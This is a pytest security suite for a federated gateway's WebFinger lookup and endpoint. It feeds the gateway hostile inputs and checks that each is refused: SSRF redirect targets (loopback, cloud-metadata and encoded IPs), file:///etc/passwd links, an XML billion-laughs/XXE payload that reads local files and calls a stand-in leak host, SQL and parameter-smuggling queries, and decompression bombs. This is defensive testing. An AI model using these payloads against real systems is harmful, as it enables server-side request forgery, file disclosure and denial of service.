"""What a handle leads to: hostile WebFinger answers, and bad questions to our own."""

from __future__ import annotations

import gzip
import json
import re
import time
from pathlib import Path
from typing import TYPE_CHECKING
from urllib.parse import parse_qs, urlsplit

import httpx
import pytest
import yardstick
from attacks import hosts
from attacks.hosts import CLEAN, DENIED, JRD, Scene, points, prepared
from web.asking import Answer, ask, problem_of
from world import BASE

import gateway
from gateway.errors import BadInput, NotFound, RemoteUnreachable
from gateway.flows import handles

if TYPE_CHECKING:
    from collections.abc import AsyncIterator


quick_keys = hosts.quick_keys
pytestmark = pytest.mark.anyio

CATALOGUE = json.loads((Path(__file__).parent / "data" / "domains.json").read_text("utf-8"))
CASES = {case["id"]: case for case in CATALOGUE["cases"] if case["class"] == "webfinger"}
RUN = {
    "DOM-WF-001": "test_a_descriptor_speaks_for_its_own_host_only",
    "DOM-WF-007": "test_a_redirect_leads_to_no_private_place",
    "DOM-WF-008": "test_endless_redirects_end",
    "DOM-WF-009": "test_what_is_no_descriptor_is_refused",
    "DOM-WF-011": "test_xml_is_never_read",
    "DOM-WF-012": "test_a_bad_question_gets_a_problem",
    "DOM-WF-013": "test_known_and_unknown_names_take_the_same_time",
}
REFUSED = (NotFound, BadInput, RemoteUnreachable)
HANDLE = f"m@{DENIED}"
PATH = f"/.well-known/webfinger?resource=acct:{HANDLE}"
VICTIM = "victim.example"


@pytest.fixture
async def scene(tmp_path: Path) -> AsyncIterator[Scene]:
    """Return a gateway at which nobody is refused."""
    made = await prepared(tmp_path)
    yield made
    await made.world.close()


async def refused(scene: Scene, handle: str = HANDLE) -> None:
    """Check that a handle leads nowhere, and leaves nothing."""
    scene.mark()
    with pytest.raises(REFUSED):
        await handles.resolve(scene.kit, f"@{handle}")
    assert scene.changed() == {}


# Answers.


async def test_a_descriptor_speaks_for_its_own_host_only(scene: Scene) -> None:
    """DOM-WF-001: who serves another host's subject or another host's actor is not believed, and the victim stays."""
    evil, victim = scene.connect(DENIED), scene.connect(VICTIM, "v")
    mine, theirs = evil.actor("v").id, victim.me.id
    assert (await handles.resolve(scene.kit, f"@v@{VICTIM}")).id == theirs
    for handle in (f"v@{DENIED}", f"v@{VICTIM}"):
        points(evil, handle, mine)
    points(evil, f"v@{DENIED}", theirs, subject=f"acct:v@{VICTIM}")
    await refused(scene, f"v@{DENIED}")
    for subject in (f"acct:v@{VICTIM}", f"acct:v@{CLEAN}", f"acct:v@{DENIED}.{VICTIM}", f"acct:alice@{BASE[8:]}"):
        points(evil, f"v@{DENIED}", mine, subject=subject)
        await refused(scene, f"v@{DENIED}")
    assert (await handles.resolve(scene.kit, f"@v@{VICTIM}")).id == theirs


@pytest.mark.parametrize(
    "subject", [f"acct:{HANDLE}", "acct:M@EVIL.Example", "acct:m@evil.example.", None, "https://evil.example/users/m"]
)
async def test_its_own_subject_in_any_form_is_believed(scene: Scene, subject: str | None) -> None:
    """DOM-WF-001: the same account in another form, and a descriptor without a subject, lead to the actor."""
    evil = scene.connect(DENIED)
    points(evil, HANDLE, evil.me.id, subject=subject)
    assert (await handles.resolve(scene.kit, f"@{HANDLE}")).id == evil.me.id


async def test_a_split_domain_that_both_confirm_is_believed(scene: Scene) -> None:
    """DOM-WF-001: when the actor's server names the handle's domain as its subject, and that one agrees, it holds."""
    front, web = scene.connect("front.example", "x"), scene.connect("web.example", "bob")
    for peer in (front, web):
        for host in ("front.example", "web.example"):
            points(peer, f"bob@{host}", web.me.id, subject="acct:bob@front.example")
    for host in ("front.example", "web.example"):
        assert (await handles.resolve(scene.kit, f"@bob@{host}")).id == web.me.id


HREFS: tuple[object, ...] = (
    None, 5, [], {}, "", "javascript:alert(1)", "data:application/activity+json,{}", "ftp://evil.example/users/m",
    "file:///etc/passwd", "//evil.example/users/m", "/users/m", "https://", "https://evil.example:0/users/m",
    "https://m@evil.example/users/m", f"{BASE}/users/alice", f"{BASE}/actor", "https://127.0.0.1/users/m",
    "https://[::1]/users/m", "https://10.0.0.1/users/m", "https://169.254.169.254/latest", "http://evil.example/users/m",
    "https://2130706433/users/m", "https://0x7f.1/", "https://evil.example/users/m\u202e",
    "https://evil.example/" + "a" * 3000, "https://xn--evil-.example/users/m", "https://\ud800.example/", "https://evil.example/users/m?x#y",
)  # fmt: skip


@pytest.mark.parametrize("href", HREFS, ids=lambda href: ascii(href)[:50])
async def test_a_descriptor_leads_to_an_actor_or_nowhere(scene: Scene, href: object) -> None:
    """DOM-WF-001: a self link that is no address of an actor is refused, nobody else is dialled, nothing is kept."""
    evil = scene.connect(DENIED)
    points(evil, HANDLE, href)
    await refused(scene)
    assert scene.board.wire.dialled == []
    assert {r.url.host for r in scene.board.requests[scene.asked :] if "example" in r.url.host} == {DENIED}


LINKS: tuple[object, ...] = (
    None, 5, "x", {}, [None], ["x"], [[]], [{"rel": ["self"], "type": "application/activity+json", "href": "x"}],
    [{"rel": "self", "type": 5, "href": "https://evil.example/users/m"}], [{"href": "https://evil.example/users/m"}],
    [{"rel": "self", "href": "https://evil.example/users/m"}], [{}] * 100_000,
    [{"rel": "self", "type": "text/html", "href": "https://evil.example/users/m"}],
)  # fmt: skip


@pytest.mark.parametrize("links", LINKS, ids=lambda links: ascii(links)[:40])
async def test_links_of_any_shape_are_harmless(scene: Scene, links: object) -> None:
    """DOM-WF-001: what stands where links should be leads to nobody."""
    evil = scene.connect(DENIED)
    points(evil, HANDLE, evil.me.id, links=links)
    await refused(scene)


async def test_a_redirect_to_another_host_is_followed_once(scene: Scene) -> None:
    """DOM-WF-007: a handle's domain may hand its WebFinger on to the actor's server."""
    front, web = scene.connect("front.example", "x"), scene.connect("web.example", "bob")
    path = "/.well-known/webfinger?resource=acct:bob@front.example"
    front.serve(path, b"", 302, location=f"{web.base}{path}")
    points(web, "bob@front.example", web.me.id)
    assert (await handles.resolve(scene.kit, "@bob@front.example")).id == web.me.id


PRIVATE = (
    "https://127.0.0.1", "https://127.0.0.1:8443", "https://10.0.0.1", "https://192.168.0.1", "https://172.16.0.1",
    "https://169.254.169.254", "https://100.64.0.1", "https://0.0.0.0", "https://[::1]", "https://[::ffff:127.0.0.1]",
    "https://[fe80::1]", "https://[fd00::1]", "https://[64:ff9b::7f00:1]", "https://[2002:7f00:1::]", "https://127.1",
    "https://0x7f000001", "https://2130706433", "https://0177.0.0.1", "https://\uff11\uff12\uff17.0.0.1",
    "https://localhost", "https://inside.example", "https://half.example", "http://evil.example", "http://clean.example",
    "https://evil.example:22", "ftp://evil.example", "file:///etc/passwd", "gopher://127.0.0.1", "//10.0.0.1", "https://m@10.0.0.1",
    "https:10.0.0.1", "https://nowhere.example",
)  # fmt: skip


@pytest.mark.parametrize("there", PRIVATE, ids=ascii)
@pytest.mark.parametrize("hop", ["first", "second", "confirmation"])
async def test_a_redirect_leads_to_no_private_place(scene: Scene, there: str, hop: str) -> None:
    """DOM-WF-007: no redirect of WebFinger reaches a private address, plain http or another port, at whatever hop."""
    scene.board.zone.names |= {"localhost": ["127.0.0.1"], "inside.example": ["10.0.0.1"]}
    scene.board.zone.names["half.example"] = ["203.0.114.9", "192.168.1.1"]
    evil, clean = scene.connect(DENIED), scene.clean
    location = f"{there}{PATH}".encode().decode("latin-1")
    if hop == "first":
        evil.serve(PATH, b"", 302, location=location)
    elif hop == "second":
        evil.serve(PATH, b"", 307, location=f"{clean.base}{PATH}")
        clean.serve(PATH, b"", 301, location=location)
    else:
        points(evil, HANDLE, scene.carol.id)
        clean.serve(PATH, b"", 302, location=location)
        clean.serve_document(scene.carol.id, scene.carol.document(preferredUsername="m"))
        await handles.resolve(scene.kit, scene.carol.id)
    await refused(scene)
    assert scene.board.wire.dialled == []
    assert {host for host in scene.contacted() if "example" in host} <= {
        DENIED,
        "inside.example",
        "half.example",
        "nowhere.example",
    }


async def test_a_public_address_would_be_dialled(scene: Scene) -> None:
    """DOM-WF-007: the guard of the tests above lets a public address through: they can fail."""
    scene.board.zone.names["there.example"] = ["93.184.216.34"]
    scene.connect(DENIED).serve(PATH, b"", 302, location=f"https://there.example{PATH}")
    await refused(scene)
    assert scene.board.wire.dialled == ["93.184.216.34 443"]


async def test_endless_redirects_end(scene: Scene) -> None:
    """DOM-WF-008: to itself, between two hosts, or to ever new addresses: a few requests, then no."""
    evil, other = scene.connect(DENIED), scene.connect("other.example")
    evil.serve(PATH, b"", 302, location=PATH)
    await refused(scene)
    assert len(scene.contacted()) <= 6
    evil.serve(PATH, b"", 302, location=f"{other.base}{PATH}")
    other.serve(PATH, b"", 302, location=f"{evil.base}{PATH}")
    await refused(scene)
    assert 1 <= len(scene.contacted()) <= 6
    made: list[int] = []

    def onward(_request: httpx.Request) -> httpx.Response:
        made.append(1)
        there = f"https://h{len(made)}.evil.example/x?{len(made)}"
        return httpx.Response(302, headers={"location": there}, stream=httpx.ByteStream(b""))

    scene.board.raw[DENIED] = onward
    for number in range(50):
        scene.board.raw[f"h{number}.{DENIED}"] = onward
    await refused(scene)
    assert 1 <= len(made) <= 6


class Endless(httpx.AsyncByteStream):
    """A body that goes on, and knows how much of it was taken."""

    def __init__(self, chunk: bytes, times: int) -> None:
        self.chunk, self.times, self.taken = chunk, times, 0

    async def __aiter__(self) -> AsyncIterator[bytes]:  # noqa: D105 - httpx asks for it
        for _ in range(self.times):
            self.taken += len(self.chunk)
            yield self.chunk


def _good() -> bytes:
    link = {"rel": "self", "type": "application/activity+json", "href": f"https://{DENIED}/users/m"}
    return json.dumps({"subject": f"acct:{HANDLE}", "links": [link]}).encode()


HTML = b"<!doctype html><html><head><link rel=self href='https://evil.example/users/m'></head><body>m</body></html>"
XRD = b"<?xml version='1.0'?><XRD xmlns='http://docs.oasis-open.org/ns/xri/xrd-1.0'><Link rel='self'/></XRD>"
BODIES: dict[str, tuple[bytes, str]] = {
    "html": (HTML, "text/html"),
    "html-as-jrd": (HTML, JRD),
    "xml": (XRD, "application/xrd+xml"),
    "xml-as-jrd": (XRD, JRD),
    "jrd-as-html": (_good(), "text/html"),
    "jrd-as-xml": (_good(), "application/xml"),
    "jrd-without-a-type": (_good(), ""),
    "empty": (b"", JRD),
    "utf-16": (_good().decode().encode("utf-16"), JRD),
    "not-utf-8": (b'{"subject": "\xff"}', JRD),
    "deep": (b'{"links":' + b"[" * 100_000 + b"]" * 100_000 + b"}", JRD),
    "one-member-twice": (b'{"links": [],' + _good()[1:], JRD),
    "a-huge-number": (b'{"expires": ' + b"9" * 100_000 + b"," + _good()[1:], JRD),
    "nan": (b'{"expires": NaN,' + _good()[1:], JRD),
    "two-documents": (_good() + _good(), JRD),
}


@pytest.mark.parametrize("body", BODIES)
async def test_what_is_no_descriptor_is_refused(scene: Scene, body: str) -> None:
    """DOM-WF-009: a page, XML, broken JSON, or a descriptor that is served as something else is none."""
    content, media = BODIES[body]
    evil = scene.connect(DENIED)
    evil.serve(PATH, content, content_type=media)
    await refused(scene)
    assert len(scene.contacted()) <= 2


@pytest.mark.parametrize("media", [JRD, "application/jrd+json; charset=utf-8", "application/json"])
async def test_a_descriptor_is_taken(scene: Scene, media: str) -> None:
    """DOM-WF-009: the same descriptor as what it is leads to the actor: the tests around can fail."""
    evil = scene.connect(DENIED)
    evil.serve(PATH, _good(), content_type=media)
    assert (await handles.resolve(scene.kit, f"@{HANDLE}")).id == evil.me.id


@pytest.mark.parametrize("coding", ["", "gzip", "br", "gzip, gzip"])
async def test_fifty_megabytes_are_not_read(scene: Scene, coding: str) -> None:
    """DOM-WF-009: a descriptor of 50 MB, packed or not, is given up after a small part of it."""
    scene.connect(DENIED)
    chunk = gzip.compress(b" " * 50_000_000) if coding else b" " * 65_536
    body = Endless(chunk, 50 if coding else 800)
    headers = {"content-type": JRD, **({"content-encoding": coding} if coding else {})}
    scene.board.raw[DENIED] = lambda _request: httpx.Response(200, headers=headers, stream=body)
    began = time.process_time()
    await refused(scene)
    assert body.taken <= 2 * 1024 * 1024
    assert yardstick.milliseconds(began) < 2_000


LAUGHS = b"""<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">%s<!ENTITY f SYSTEM "file:///etc/passwd">
<!ENTITY %% p SYSTEM "https://leak.example/dtd"> %%p;]><XRD><Subject>&z;&f;</Subject>
<Link rel="lrdd" template="https://leak.example/{uri}"/></XRD>""" % b"".join(
    b'<!ENTITY %c "%s">' % (98 + i, b"&%c;" % (97 + i) * 10) for i in range(25)
)


async def test_xml_is_never_read(scene: Scene) -> None:
    """DOM-WF-011: host-meta is never asked for, and entities anywhere expand to nothing and lead nowhere."""
    evil = scene.connect(DENIED)
    leak = scene.connect("leak.example")
    evil.pages.pop(PATH)
    for path in ("/.well-known/host-meta", f"/.well-known/host-meta?resource=acct:{HANDLE}"):
        evil.serve(path, LAUGHS, content_type="application/xrd+xml")
    began = time.process_time()
    await refused(scene)
    for media in (JRD, "application/xrd+xml", "application/xml", "application/json"):
        evil.serve(PATH, LAUGHS, content_type=media)
        await refused(scene)
    assert yardstick.milliseconds(began) < 2_000
    assert {path.partition("?")[0] for path in evil.gets} == {"/.well-known/webfinger"}
    assert leak.gets == []
    sources = {path: path.read_text("utf-8") for path in Path(str(gateway.__file__)).parent.rglob("*.py")}
    readers = re.compile(r"\b(?:fromstring|iterparse|XMLParser|parseString|expat|lxml|minidom)\b")
    assert [path.name for path, text in sources.items() if readers.search(text)] == []


@pytest.mark.parametrize(
    "name",
    ["m&resource=acct:x", "m#", "m?x", "m%26resource=acct:x", "m;x", "m/../x", "m+x", "m\u202e", "\u043c", "m\\x"],
)
async def test_a_handle_asks_for_exactly_itself(scene: Scene, name: str) -> None:
    """DOM-WF-001: whatever stands in the name of a handle, the question names that account, or nothing is asked."""
    evil = scene.connect(DENIED)
    with pytest.raises(REFUSED):
        await handles.resolve(scene.kit, f"@{name}@{DENIED}")
    for path in evil.gets:
        parts = urlsplit(path)
        assert parts.path == "/.well-known/webfinger"
        assert parse_qs(parts.query, strict_parsing=True) == {"resource": [f"acct:{name}@{DENIED}"]}


async def test_no_cookie_of_a_host_goes_anywhere(scene: Scene) -> None:
    """DOM-WF-007: what one answer sets is sent back to nobody, not by subdomains either."""
    front, below = scene.connect("front.example"), scene.connect("below.front.example")
    path = "/.well-known/webfinger?resource=acct:m@front.example"
    front.serve(path, b"", 302, location=f"{below.base}{path}", set_cookie="a=b; Domain=front.example; Path=/")
    below.serve(path, b"", 302, location=f"{front.base}/again", set_cookie="c=d")
    await refused(scene, "m@front.example")
    assert scene.contacted() == ["front.example", "below.front.example", "front.example"]
    assert [r.headers["cookie"] for r in scene.board.requests if "cookie" in r.headers] == []


# Questions.

QUESTIONS = {
    "missing": "",
    "empty": "?resource=",
    "of-another-host": "?resource=acct:alice@evil.example",
    "below-our-host": "?resource=acct:alice@x.gw.example",
    "our-host-as-a-prefix": "?resource=acct:alice@gw.example.evil.example",
    "two-hosts": "?resource=acct:alice@gw.example@evil.example",
    "two-hosts-turned": "?resource=acct:alice@evil.example@gw.example",
    "a-remote-actor": "?resource=https://clean.example/users/carol",
    "a-remote-actor-with-our-user-info": "?resource=https://gw.example@evil.example/users/alice",
    "another-port": "?resource=https://gw.example:8443/users/alice",
    "another-scheme": "?resource=http://gw.example/users/alice",
    "an-odd-scheme": "?resource=javascript:alert(1)",
    "mailto": "?resource=mailto:alice@gw.example",
    "100-kb": f"?resource=acct:{'a' * 100_000}@gw.example",
    "100-kb-host": f"?resource=acct:alice@{'a.' * 50_000}example",
    "100-kb-port": f"?resource=acct:alice@gw.example:{'9' * 100_000}",
    "100-kb-url": f"?resource=https://gw.example/users/{'a' * 100_000}",
    "two-resources": "?resource=acct:alice@gw.example&resource=acct:alice@gw.example",
    "two-different-resources": "?resource=acct:alice@gw.example&resource=acct:carol@gw.example",
    "brackets": "?resource[]=acct:alice@gw.example",
    "nul": "?resource=acct:alice%00@gw.example",
    "nul-in-the-host": "?resource=acct:alice@gw.example%00",
    "not-utf-8": "?resource=acct:%ff%fe@gw.example",
    "broken-escape": "?resource=acct:%zz@gw.example",
    "surrogate": "?resource=acct:%ed%a0%80@gw.example",
    "no-name": "?resource=acct:@gw.example",
    "no-host": "?resource=acct:alice@",
    "no-at": "?resource=acct:alice",
    "an-address": "?resource=acct:alice@[::1]",
    "user-in-host": "?resource=acct:alice@x:y@gw.example",
    "path-in-host": "?resource=acct:alice@gw.example/users",
    "a-number-as-port": "?resource=acct:alice@gw.example:4_43",
    "a-negative-port": "?resource=acct:alice@gw.example:-1",
    "sql": "?resource=acct:alice'%20OR%20'1'='1@gw.example",
    "like": "?resource=acct:a%25@gw.example",
    "traversal": "?resource=https://gw.example/users/../users/alice",
    "nobody": "?resource=acct:nobody@gw.example",
    "many-rels": "?resource=acct:nobody@gw.example" + "&rel=x" * 5_000,
    "many-fields": "?" + "&".join(f"a{number}=b" for number in range(20_000)),
}  # fmt: skip


async def asked(scene: Scene, query: str, method: str = "GET") -> Answer:
    """Ask our own WebFinger."""
    return await ask(scene.board.apps["gw.example"], method, f"/.well-known/webfinger{query}")


@pytest.mark.parametrize("question", QUESTIONS)
async def test_a_bad_question_gets_a_problem(scene: Scene, question: str) -> None:
    """DOM-WF-012: a question that is broken, or about nobody here, is answered with a problem, and asks nobody else."""
    scene.mark()
    began = time.process_time()
    answer = await asked(scene, QUESTIONS[question])
    problem_of(answer, CASES["DOM-WF-012"]["expect"]["status"])
    assert len(answer.body) < 4_000
    assert scene.contacted() == []
    assert scene.changed() == {}
    assert yardstick.milliseconds(began) < 2_000


@pytest.mark.parametrize(
    "resource", ["acct:alice@gw.example", "acct:ALICE@GW.Example.", "acct%3Aalice%40gw.example", f"{BASE}/users/alice"]
)
async def test_a_good_question_gets_alice(scene: Scene, resource: str) -> None:
    """DOM-WF-012: her handle and her address in any form lead to her: the tests above can fail."""
    answer = await asked(scene, f"?resource={resource}")
    assert answer.status == 200
    assert answer.json["subject"] == "acct:alice@gw.example"
    assert answer.header("content-type") == JRD


async def test_known_and_unknown_names_take_the_same_time(scene: Scene) -> None:
    """DOM-WF-013: the work for a name that lives here and for one that does not differs by less than twice."""
    fastest = {"alice": 1e9, "nobody": 1e9}
    for number in range(1_000):
        for name, before in fastest.items():
            began = time.process_time()
            answer = await asked(scene, f"?resource=acct:{name}@gw.example")
            fastest[name] = min(before, time.process_time() - began)
            assert answer.status == (200 if name == "alice" else 404)
        if number >= 30 and max(fastest.values()) < 2 * min(fastest.values()):
            break
    assert max(fastest.values()) <= 2 * min(fastest.values()), fastest


def test_no_case_is_left_out() -> None:
    """Every case about WebFinger is run."""
    assert RUN.keys() == CASES.keys()
    assert all(name in globals() for name in RUN.values())
